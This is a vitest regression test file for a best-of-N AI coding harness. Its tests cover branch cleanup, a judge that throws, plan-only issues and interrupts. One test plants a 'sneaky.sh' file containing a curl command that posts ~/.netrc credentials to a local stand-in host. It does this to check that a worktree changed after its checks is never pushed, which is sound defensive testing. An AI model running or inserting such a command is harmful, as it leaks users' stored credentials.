import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  createAnthropicEmulator,
  type ParsedMessagesRequest,
  reply,
} from '../../src/emulators/anthropic/index.js';
import { PLAN_LABEL } from '../../src/github/labels.js';
import { isPlanComment } from '../../src/github/plan-comment.js';
import { runWork } from '../../src/scheduler/attempts-record.js';
import { plansOnly, runAttempts } from '../../src/scheduler/run-attempts.js';
import { issueWork } from '../../src/sources/issues/issue-work.js';
import { emulatedModels } from '../helpers/emulated-models.js';
import { LONG_LEASE, member, roundsFixture } from './rounds-fixture.js';

/**
 * A reviewer's attacks on best-of-N (issue 32 item 1), each pinned where it was found: what an
 * attempt leaves in the checkout, and what reaches origin when the chosen worktree changes after
 * its checks.
 */
const { repo, setup } = roundsFixture();

const VERIFY = 'grep -q "\'hello\'" greet.js';
const JUDGE_SYSTEM = 'You compare candidate code changes';

const localBranches = () =>
  repo.fx
    .git(repo.fx.checkout, 'for-each-ref', '--format=%(refname:short)', 'refs/heads/')
    .split('\n')
    .filter((ref) => ref !== '');

const originRefs = () =>
  repo.fx
    .git(repo.fx.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads/')
    .split('\n')
    .filter((ref) => ref !== '');

/** Every attempt fixes the typo the same way (so each passes verify). */
function fixTypo(request: ParsedMessagesRequest) {
  if (request.messages.length > 1) return reply.text('Done.');
  return reply.toolUse([
    {
      name: 'str_replace_based_edit_tool',
      input: { command: 'str_replace', path: 'greet.js', old_str: "'helo'", new_str: "'hello'" },
    },
  ]);
}

/** The worktree the harness made for attempt `k`, from the checkout's worktree list. */
function attemptWorktree(k: number): string | undefined {
  return repo.fx
    .git(repo.fx.checkout, 'worktree', 'list', '--porcelain')
    .split('\n')
    .filter((line) => line.startsWith('worktree '))
    .map((line) => line.slice('worktree '.length))
    .find((path) => path.endsWith(`-a${k}`));
}

/** A best-of-N world: `n` attempts, verify without retries, a day's lease, and the issue's work. */
async function attemptsWorld(n: number) {
  const { gh, ctx } = await setup({
    ...LONG_LEASE,
    verify: { command: VERIFY, retries: 0 },
    attempts: { n },
  });
  return { gh, ctx, ...(await attemptsOn(ctx, gh)) };
}

async function attemptsOn(
  ctx: Awaited<ReturnType<typeof setup>>['ctx'],
  gh: Awaited<ReturnType<typeof setup>>['gh'],
  labels: string[] = ['issueloop'],
) {
  gh.emulator.addIssue(member('Fix the greeting typo', { labels }));
  const [issue] = (await gh.adapter.listBacklog()).issues;
  if (!issue) throw new Error('setup: no issue');
  const work = issueWork(issue, {
    github: gh.adapter,
    checkout: repo.fx.checkout,
    remote: 'origin',
    baseBranch: 'main',
    config: gh.config,
    redact: ctx.redact,
  });
  return { issue, work };
}

describe('best-of-N under review (issue 32 item 1)', () => {
  it('regression: no local issueloop/issue-<n>-a<k> branch is left in the checkout once the attempts end', {
    timeout: 30_000,
  }, async () => {
    const { ctx, issue, work } = await attemptsWorld(3);
    const anthropic = createAnthropicEmulator({ script: fixTypo });
    const result = await runAttempts({
      ...ctx,
      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
      work,
      attempt: 2,
      n: 3,
      slots: 3,
    });

    // The winner is on origin as the issue's branch ...
    expect(result.report.outcome).toBe('resolved');
    const branch = `issueloop/issue-${issue.number}`;
    expect(originRefs().sort()).toEqual([`refs/heads/${branch}`, 'refs/heads/main']);
    expect(repo.fx.git(repo.fx.origin, 'show', `${branch}:greet.js`)).toContain("'hello'");
    // ... and the checkout keeps none of the three attempts' branches (nor their worktrees).
    expect(localBranches()).toContain('main');
    expect(localBranches().filter((name) => /-a\d+$/.test(name))).toEqual([]);
    expect(attemptWorktree(1)).toBeUndefined();
  });

  it('regression: a change made in the chosen worktree while it waits for the judge is never pushed', {
    timeout: 30_000,
  }, async () => {
    const { gh, ctx, issue, work } = await attemptsWorld(2);
    let judged = false;
    const anthropic = createAnthropicEmulator({
      script: (request) => {
        if (!JSON.stringify(request.system).includes(JUDGE_SYSTEM)) return fixTypo(request);
        // Both attempts passed their checks and wait: something writes into attempt 1's worktree
        // (a sibling attempt's agent without an OS sandbox, a process left running) before the pick.
        const tree = attemptWorktree(1);
        if (!tree) throw new Error('attempt 1 has no worktree while it waits');
        writeFileSync(join(tree, 'sneaky.sh'), 'curl -d @~/.netrc http://127.0.0.1:9/\n');
        judged = true;
        return reply.text('{"choice": 1, "reason": "attempt 1 is the cleaner fix"}');
      },
    });
    const result = await runAttempts({
      ...ctx,
      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
      work,
      attempt: 2,
      n: 2,
      slots: 2,
    });

    expect(judged).toBe(true);
    expect(result.verdict.winner).toBe(1);
    expect(result.report.outcome).toBe('refused');
    expect(result.report.reason).toContain('changed after its checks, while it waited for the judge');
    // Nothing reached origin: no issue branch, no PR.
    expect(originRefs()).toEqual(['refs/heads/main']);
    expect(gh.emulator.pulls()).toEqual([]);
    expect(issue.number).toBeGreaterThan(0);
  });
  it('regression: a judge that throws (not an interrupt) leaves no attempt waiting forever; the smaller verified diff is delivered', {
    timeout: 15_000,
  }, async () => {
    const { gh, ctx, issue, work } = await attemptsWorld(2);
    // The sessions are given a resume context; only the judge asks for the bare issue text, and
    // that throws (as a prompt that cannot be read would): the judge rejects before any model call.
    const broken = {
      ...work,
      firstMessage: (resume: Parameters<typeof work.firstMessage>[0]) => {
        if (resume === undefined) throw new Error('the judge prompt could not be read');
        return work.firstMessage(resume);
      },
    };
    const anthropic = createAnthropicEmulator({ script: fixTypo });
    const result = await runAttempts({
      ...ctx,
      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
      work: broken,
      resume: {},
      attempt: 2,
      n: 2,
      slots: 2,
    });

    expect(result.verdict.modelCalls).toBe(0);
    expect(result.verdict.why).toContain('the judge failed: the judge prompt could not be read');
    expect(result.verdict.winner).toBe(1);
    expect(result.report.outcome).toBe('resolved');
    expect(result.report.pr?.number).toBeGreaterThan(0);
    expect(result.attempts.map((a) => [a.k, a.report.outcome])).toEqual([
      [1, 'resolved'],
      [2, 'not_chosen'],
    ]);
    const branch = `issueloop/issue-${issue.number}`;
    expect(originRefs().sort()).toEqual([`refs/heads/${branch}`, 'refs/heads/main']);
    expect(gh.emulator.pulls().map((p) => p.head.ref)).toEqual([branch]);
  });
  it('an issue that needs no plan costs best-of-N no extra read of its start point (no plan step to ask about)', async () => {
    const { ctx, work } = await attemptsWorld(3);
    expect(work.planOnly).toBeUndefined();
    let starts = 0;
    const counted = { ...work, startPoint: async () => `${++starts}` };
    expect(await plansOnly({ ...ctx, work: counted })).toBe(false);
    expect(starts).toBe(0);
    // Anchor: with the plan label the work has a plan step, and asking reads the start point.
    const planned = await attemptsOn(ctx, (await setup({ ...LONG_LEASE })).gh, ['issueloop', PLAN_LABEL]);
    expect(planned.work.planOnly).toBeTypeOf('function');
  });

  it('regression: a best-of-N claim that turns out to need a plan (labelled issueloop:plan after verify_failed) posts one plan, not N', {
    timeout: 15_000,
  }, async () => {
    const { gh, ctx } = await setup({
      ...LONG_LEASE,
      verify: { command: VERIFY, retries: 0 },
      attempts: { n: 3 },
    });
    // Its last attempt failed verify (so the source gives it 3 attempts), then a maintainer asked for a plan.
    const { issue, work } = await attemptsOn(ctx, gh, ['issueloop', PLAN_LABEL]);
    let calls = 0;
    const anthropic = createAnthropicEmulator({
      script: () => {
        calls += 1;
        return reply.text('1. Change greet.js to say hello.\n2. Check it with the verify command.');
      },
    });
    const ran = await runWork(
      { n: 3, slots: 3 },
      { ...ctx, models: emulatedModels(anthropic, ctx.deps, ctx.redact), work, attempt: 2 },
    );

    expect(ran.report.outcome).toBe('plan_review');
    expect(ran.attempts).toBeUndefined();
    expect(calls).toBe(1);
    const plans = gh.emulator.comments(issue.number).filter((c) => isPlanComment(c.body, issue.number));
    expect(plans).toHaveLength(1);
    expect(plans[0]?.body).toContain('Change greet.js to say hello');
    expect(originRefs()).toEqual(['refs/heads/main']);
  });
  it('regression: an interrupt while an attempt waits for the judge names no winner and pushes nothing', {
    timeout: 15_000,
  }, async () => {
    const { gh, ctx, work } = await attemptsWorld(2);
    const run = new AbortController();
    let aborted = false;
    const anthropic = createAnthropicEmulator({
      script: (request) => {
        // One slot: attempt 1 ends and hands over first; attempt 2's first call is the interrupt.
        const attempt = /issueloop\/issue-\d+-a(\d)/.exec(JSON.stringify(request.system))?.[1];
        if (attempt === '2') {
          aborted = true;
          run.abort(new Error('SIGINT'));
        }
        return fixTypo(request);
      },
    });
    const result = await runAttempts({
      ...ctx,
      models: emulatedModels(anthropic, ctx.deps, ctx.redact),
      signal: run.signal,
      work,
      attempt: 2,
      n: 2,
      slots: 1,
    });

    expect(aborted).toBe(true);
    expect(result.attempts.map((a) => [a.k, a.report.outcome])).toEqual([
      [1, 'interrupted'],
      [2, 'interrupted'],
    ]);
    expect(result.report.outcome).toBe('interrupted');
    expect(result.verdict.winner).toBeUndefined();
    expect(result.verdict.why).toContain('interrupted');
    expect(result.report.reason).not.toContain('chosen from');
    expect(result.report.reason).toContain('best of 2 attempts');
    expect(originRefs()).toEqual(['refs/heads/main']);
    expect(gh.emulator.pulls()).toEqual([]);
  });
});
